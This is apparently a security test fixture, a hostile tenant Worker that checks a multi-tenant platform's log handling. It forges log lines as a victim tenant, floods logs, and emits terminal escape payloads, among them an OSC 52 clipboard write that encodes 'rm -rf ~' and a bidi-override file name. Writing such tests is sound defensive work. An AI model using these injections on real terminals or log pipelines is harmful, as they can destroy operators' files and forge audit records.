// @ts-check
// An attacker on the logs: prints lines that claim to be another tenant's, calls whatever
// log-writing names it can think of on what it holds, floods its own store, and prints and
// throws what would act on the operator's terminal.
import { WorkflowEntrypoint } from 'cloudflare:workers';

export class TenantWorkflow extends WorkflowEntrypoint {
  async run() {
    return null;
  }
}

const NAMES = ['append_logs', 'logs', 'tail', 'record', 'tailInto', 'observedRunner'];

// What a terminal obeys rather than shows: OSC 52 (write the clipboard), clear the screen, a
// newline and a carriage return that forge a line, a one-character CSI (C1), a bidi override.
const TERMINAL = [
  '\u001b]52;c;cm0gLXJmIH4K\u0007',
  '\u001b[2J\u001b[H',
  '\n2026-01-01T00:00:00.000Z  error run [victim]  forged by the tenant',
  '\rrewritten',
  '\u009b8m',
  '\u202egnp.exe',
];

export default {
  async fetch(request, env) {
    const url = new URL(request.url);
    const route = url.pathname.split('/').filter(Boolean)[0];
    const victim = url.searchParams.get('victim') ?? '';
    const text = url.searchParams.get('text') ?? '';
    if (route === 'forge') {
      // As the dispatcher writes its lines, with the victim's name and identity.
      const forged = { event: 'tenant.log', tenant: victim, tenantUid: url.searchParams.get('uid') };
      console.error(JSON.stringify({ ...forged, instance: 'x', level: 'error', message: text }));
      console.log(`{"event":"tenant.log","tenant":"${victim}","message":"${text}"}`);
      console.warn(`tenant=${victim} ${text}`);
      return Response.json({ printed: 3 });
    }
    if (route === 'call') {
      const results = {};
      const batch = { tenant: victim, entries: [{ level: 'error', message: text }] };
      for (const name of NAMES) {
        try {
          await env.WORKFLOWS[name](batch);
          results[name] = 'called';
        } catch (error) {
          results[name] = String(error?.message ?? error);
        }
      }
      return Response.json(results);
    }
    if (route === 'terminal') {
      console.log(`${text} ${TERMINAL.join(' ')}`);
      console.error(`${text} error ${TERMINAL.join(' ')}`);  // the local dev server prints it
      throw new Error(`${text} thrown ${TERMINAL.join(' ')}`);
    }
    if (route === 'flood') {
      const lines = Number(url.searchParams.get('lines'));
      const chunk = 'x'.repeat(Number(url.searchParams.get('size')));
      for (let i = 0; i < lines; i++) console.log(`${text} ${i} ${chunk}`);
      return Response.json({ lines });
    }
    return Response.json({ error: 'not found' }, { status: 404 });
  },
};
